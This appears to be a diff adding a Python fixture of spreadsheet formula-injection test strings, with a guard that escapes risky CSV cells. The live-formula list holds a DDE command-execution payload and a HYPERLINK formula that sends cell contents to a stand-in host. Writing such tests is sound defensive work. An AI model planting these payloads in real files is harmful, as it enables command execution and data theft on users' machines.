@@ -1,0 +1,127 @@
+"""Values that CSV files and spreadsheets have stumbled over, and the guard written once more, sharing no code."""
+
+DIGITS = set("0123456789")
+STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
+
+LIVE_FORMULAS = [
+    *STARTS,
+    *(start + "1+1" for start in STARTS),
+    *(start + "cmd|' /C calc'!A0" for start in STARTS),
+    '=HYPERLINK("http://x/?"&A1,"a")',
+    "+1-1",
+    "-2+3",
+    "--1",
+    "+-1",
+    "+",
+    "-",
+    "-.5",
+    "+5.",
+    "-1.2.3",
+    "-1,5",
+    "-1 ",
+    "-1\n",
+    "+1234567\n",
+    "+49 30 123",
+    "+1e5",
+    "-1e5",
+    "-0x10",
+    "+123456a",
+    "-١٢",
+    "+１２",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\n",
+    "\r\n=1",
+    "=" + "x" * 40_000,
+    "-" + "1" * 1000 + "-",
+]
+HARMLESS = [
+    "",
+    "plain",
+    "-12.5",
+    "+12.5",
+    "-0",
+    "+1",
+    "+1234567",
+    "+123456789012345",
+    "-00000000000000000000000000000012345678901234567890",
+    "1+1",
+    "a=b",
+    " =1+1",
+    "'=1+1",
+    "''",
+    '"=1+1"',
+    "é=1",
+    "☃",
+    "\u00a0=1",
+    "\ufeff=1",
+    "x\n=1+1",
+    "foo;=1+3;bar",
+    "foo,=1+3,bar",
+    "foo\t=1+3\tbar",
+    "a,b",
+    'say "hi"',
+    '"',
+    '""',
+    '";=1+1;"',
+    "\\.",
+    "\\N",
+    "\\",
+    "NULL",
+    "null",
+    "x" * 40_000,
+    "😀" * 20_000,
+    "<script>",
+    "\x0b=1",
+    "\x01",
+    "\x7f",
+    "𝟏+𝟏",
+    "＃1",
+    "1E5",
+    "007",
+    "0049",
+    "2024-01-02",
+    "1/2",
+    "3-4",
+    "12:30",
+    "TRUE",
+    "#NAME?",
+    "0x1F",
+    "12345678901234567890",
+    "  leading",
+    "trailing  ",
+    "two  spaces",
+    "a\nb",
+    "a\rb",
+    "a\r\nb",
+    "a\tb",
+    "ends\n",
+    "\u200b=1",
+    "\u200d",
+    "\u202e=evil",
+    "שלום",
+    "مرحبا",
+    "e\u0301",
+    "👩‍👩‍👧",
+    "\u2028",
+    "\u0085",
+    "\ufffd",
+    "\ufffe",
+    "\U0010ffff",
+    "sep=;",
+]
+ALL = [*LIVE_FORMULAS, *HARMLESS]
+
+
+def is_plain_number(value: str) -> bool:
+    """Digits, perhaps a sign before them, perhaps a point and digits after them."""
+    whole, point, fraction = value.removeprefix(value[:1] if value[:1] in "+-" else "").partition(".")
+    return bool(whole) and set(whole + fraction) <= DIGITS and bool(point) == bool(fraction)
+
+
+def guard(value: str) -> str:
+    """Return what a text must look like in a file for spreadsheets."""
+    if not value or value[0] not in STARTS:
+        return value
+    phone = value[0] == "+" and 7 <= len(value) - 1 <= 15 and set(value[1:]) <= DIGITS
+    return value if phone or is_plain_number(value) else "'" + value
